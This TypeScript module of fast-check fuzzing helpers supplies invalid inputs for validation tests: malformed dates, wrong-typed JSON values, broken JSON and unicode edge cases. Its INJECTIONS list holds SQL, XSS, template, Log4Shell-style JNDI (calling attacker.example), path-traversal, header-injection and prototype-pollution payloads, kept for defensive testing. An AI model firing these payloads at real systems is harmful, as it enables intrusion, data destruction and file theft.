import fc from 'fast-check';

/** Strings that try to escape their field: SQL, script, template, path, header and NoSQL injection. */
export const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE events; --',
  '1; DELETE FROM events WHERE 1=1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${7*7}',
  '{{7*7}}',
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '%00',
  '\u0000',
  '{"$gt":""}',
  '$where: 1',
  'admin\r\nSet-Cookie: cj_session=x',
  '__proto__',
  'constructor',
];

/** Unicode that breaks naive handling: lone surrogates, BOM, direction overrides, zero width, full-width digits. */
export const UNICODE_EDGES = [
  '\ud800',
  '\udfff',
  '\ufeff2024-01-01',
  '\u202e10-10-4202',
  '2024\u200b-01-01',
  '２０２４-０１-０１',
  'Ａ１２３',
  '\u0301',
  '𝟚𝟘𝟚𝟜-𝟘𝟙-𝟘𝟙',
  '🧒🏽‍🦱',
  'e\u0301',
  '\u0085',
  '\u2028',
];

/** Dates that are not real calendar dates in YYYY-MM-DD. */
export const impossibleDate: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '2023-02-29',
    '2100-02-29',
    '2024-02-30',
    '2024-04-31',
    '2024-13-01',
    '2024-00-10',
    '2024-01-00',
    '2024-1-1',
    '24-01-01',
    '20240101',
    '2024/01/01',
    '01/02/2024',
    '2024-01-01T00:00:00Z',
    '2024-01-01 ',
    ' 2024-01-01',
    '+02024-01-01',
    '-2024-01-01',
    '9999999-01-01',
    'today',
    '',
  ),
  fc
    .record({
      y: fc.integer({ min: 0, max: 9999 }),
      m: fc.integer({ min: 13, max: 99 }),
      d: fc.integer({ min: 1, max: 28 }),
    })
    .map(({ y, m, d }) => `${String(y).padStart(4, '0')}-${m}-${String(d).padStart(2, '0')}`),
  fc
    .record({
      y: fc.integer({ min: 1900, max: 2100 }),
      m: fc.integer({ min: 1, max: 12 }),
      d: fc.integer({ min: 32, max: 99 }),
    })
    .map(({ y, m, d }) => `${y}-${String(m).padStart(2, '0')}-${d}`),
);

/** A JSON value of any type but `type` (never null: null is a legitimate "absent" for optional fields). */
export const wrongTypeFor = (type: string | undefined): fc.Arbitrary<unknown> => {
  const all: Record<string, fc.Arbitrary<unknown>> = {
    string: fc.string({ maxLength: 20 }),
    number: fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })),
    boolean: fc.boolean(),
    array: fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
    object: fc.dictionary(fc.string({ minLength: 1, maxLength: 5 }), fc.integer(), { maxKeys: 3 }),
  };
  const others = Object.entries(all)
    .filter(([name]) => name !== type && !(type === 'integer' && name === 'number'))
    .map(([, arbitrary]) => arbitrary);
  return fc.oneof(...others);
};

/** JSON text that does not parse. */
export const malformedJson: fc.Arbitrary<string> = fc
  .oneof(
    fc.string({ minLength: 1, maxLength: 40 }),
    fc.constantFrom(
      '{',
      '}',
      '[',
      '{"a":}',
      '{"a" 1}',
      "{'a':1}",
      '{"a":1,}',
      '[1,2,',
      'nul',
      'tru',
      '{"a":"\\x"}',
      '{"a":01}',
      '{"a":NaN}',
      '{"a":Infinity}',
      '\u0000',
    ),
    fc.json().map((text) => `${text}}`),
    fc
      .json()
      .filter((text) => text.length > 2)
      .map((text) => text.slice(0, -1)),
  )
  .filter((text) => {
    try {
      JSON.parse(text);
      return false;
    } catch {
      return true;
    }
  });

/** Header-safe text (fetch refuses CR, LF and non-Latin-1 in header values). */
export const headerSafe = (value: string): boolean => /^[\x20-\x7e]*$/.test(value);
